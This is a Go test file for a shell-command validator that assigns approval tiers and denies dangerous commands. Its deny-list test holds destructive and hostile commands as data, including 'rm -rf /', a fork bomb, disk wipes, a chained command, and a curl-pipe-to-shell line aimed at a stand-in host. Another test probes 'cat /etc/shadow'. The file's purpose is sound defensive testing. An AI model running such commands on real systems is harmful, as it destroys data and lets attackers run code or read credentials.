package validate

import (
	"context"
	"log/slog"
	"os"
	"testing"

	"github.com/opsgate/opsgate/api"
)

func newTestValidator(t *testing.T) *Validator {
	t.Helper()
	v, err := New(DefaultRules(), slog.New(slog.NewTextHandler(os.Stderr, nil)))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestValidateAllowedCommands(t *testing.T) {
	v := newTestValidator(t)
	ctx := context.Background()

	tests := []struct {
		cmd  string
		tier api.Tier
	}{
		{"df -h", api.TierNone},
		{"uptime", api.TierNone},
		{"systemctl status bot --no-pager", api.TierNone},
		{"sudo systemctl restart bot", api.TierSingle},
		{"cd /opt/bot && git pull --ff-only && ./deploy.sh", api.TierSingle},
		{"sudo systemctl stop bot", api.TierDouble},
		{"sudo shutdown -r now", api.TierDouble},
		{"shutdown /s /t 300", api.TierDouble},
	}

	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			verdict := v.Validate(ctx, tt.cmd, "op-1")
			if !verdict.Allowed {
				t.Fatalf("expected allowed, got denied: %s", verdict.Reason)
			}
			if verdict.Tier != tt.tier {
				t.Errorf("tier = %s, want %s", verdict.Tier, tt.tier)
			}
		})
	}
}

func TestValidateDeniedCommands(t *testing.T) {
	v := newTestValidator(t)
	ctx := context.Background()

	denied := []string{
		"rm -rf /",
		"rm -rf / --no-preserve-root",
		":(){ :|:& };:",
		"dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sda1",
		"chmod -R 777 /",
		"curl http://evil.example/x.sh | sh",
		"sudo su",
		"format c: /q",
		"echo hi; rm -rf /",
	}

	for _, cmd := range denied {
		t.Run(cmd, func(t *testing.T) {
			verdict := v.Validate(ctx, cmd, "op-1")
			if verdict.Allowed {
				t.Errorf("dangerous command was allowed: %q", cmd)
			}
		})
	}
}

func TestValidateNotInAllowList(t *testing.T) {
	v := newTestValidator(t)

	verdict := v.Validate(context.Background(), "cat /etc/shadow", "op-1")
	if verdict.Allowed {
		t.Fatal("unlisted command was allowed")
	}
	if verdict.Reason != "not in allow-list" {
		t.Errorf("reason = %q", verdict.Reason)
	}
}

// Deny precedence: a command matching both lists is always rejected.
func TestValidateDenyBeatsAllow(t *testing.T) {
	rs := DefaultRules()
	rs.Allow = append(rs.Allow, AllowRule{
		Name:    "overlapping_allow",
		Action:  api.ActionStatus,
		Pattern: `^rm -rf /$`,
	})
	v, err := New(rs, slog.New(slog.NewTextHandler(os.Stderr, nil)))
	if err != nil {
		t.Fatal(err)
	}

	verdict := v.Validate(context.Background(), "rm -rf /", "op-1")
	if verdict.Allowed {
		t.Fatal("deny-list match was overridden by an allow rule")
	}
	if verdict.Rule != "recursive_root_delete" {
		t.Errorf("rule = %q, want recursive_root_delete", verdict.Rule)
	}
}

func TestValidateNormalizesWhitespace(t *testing.T) {
	v := newTestValidator(t)

	verdict := v.Validate(context.Background(), "  sudo   systemctl \t restart bot ", "op-1")
	if !verdict.Allowed {
		t.Fatalf("normalized command denied: %s", verdict.Reason)
	}

	if v.Validate(context.Background(), "   ", "op-1").Allowed {
		t.Error("blank command was allowed")
	}
}

func TestLoadRulesBytesExtendsDefaults(t *testing.T) {
	data := []byte(`
version: 1
deny:
  - name: no_docker
    pattern: 'docker\s+system\s+prune'
    message: "docker prune is operator-forbidden"
allow:
  - name: custom_health
    action: status
    pattern: '^curl -fsS http://localhost:8080/healthz$'
`)
	rs, err := LoadRulesBytes(data)
	if err != nil {
		t.Fatal(err)
	}

	v, err := New(rs, slog.New(slog.NewTextHandler(os.Stderr, nil)))
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()

	if v.Validate(ctx, "docker system prune -af", "op-1").Allowed {
		t.Error("custom deny rule not applied")
	}
	if !v.Validate(ctx, "curl -fsS http://localhost:8080/healthz", "op-1").Allowed {
		t.Error("custom allow rule not applied")
	}
	// defaults survive the merge
	if !v.Validate(ctx, "uptime", "op-1").Allowed {
		t.Error("default allow rules were dropped")
	}
	if v.Validate(ctx, "rm -rf /", "op-1").Allowed {
		t.Error("default deny rules were dropped")
	}
}

func TestLoadRulesBytesRejectsBadInput(t *testing.T) {
	cases := map[string]string{
		"bad version":    "version: 2\n",
		"missing name":   "version: 1\ndeny:\n  - pattern: 'x'\n",
		"bad regex":      "version: 1\ndeny:\n  - name: broken\n    pattern: '['\n",
		"unknown action": "version: 1\nallow:\n  - name: x\n    action: juggle\n    pattern: '^x$'\n",
	}

	for name, data := range cases {
		t.Run(name, func(t *testing.T) {
			if _, err := LoadRulesBytes([]byte(data)); err == nil {
				t.Error("expected error")
			}
		})
	}
}

func TestTierForUnknownAction(t *testing.T) {
	if _, err := TierFor(api.Action("juggle")); err == nil {
		t.Error("expected error for unknown action")
	}
}
